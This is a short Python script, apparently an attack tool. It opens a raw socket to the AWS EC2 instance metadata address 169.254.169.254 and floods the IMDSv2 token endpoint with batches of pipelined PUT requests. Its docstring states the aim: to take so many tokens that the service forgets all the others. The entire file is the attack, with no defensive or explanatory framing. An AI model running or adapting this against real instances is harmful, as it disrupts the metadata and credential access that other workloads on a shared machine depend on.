"""Takes so many tokens that the service forgets all the others."""
import socket
import sys

REQUEST = (
    b"PUT /latest/api/token HTTP/1.1\r\nHost: 169.254.169.254\r\n"
    b"X-aws-ec2-metadata-token-ttl-seconds: 21600\r\nContent-Length: 0\r\n\r\n"
)
AT_ONCE = 64

service = socket.create_connection(("169.254.169.254", 80), timeout=8)
for _ in range(int(sys.argv[1]) // AT_ONCE):
    service.sendall(REQUEST * AT_ONCE)
    answers = b""
    while answers.count(b"HTTP/1.1 200") < AT_ONCE:
        answers += service.recv(65536)
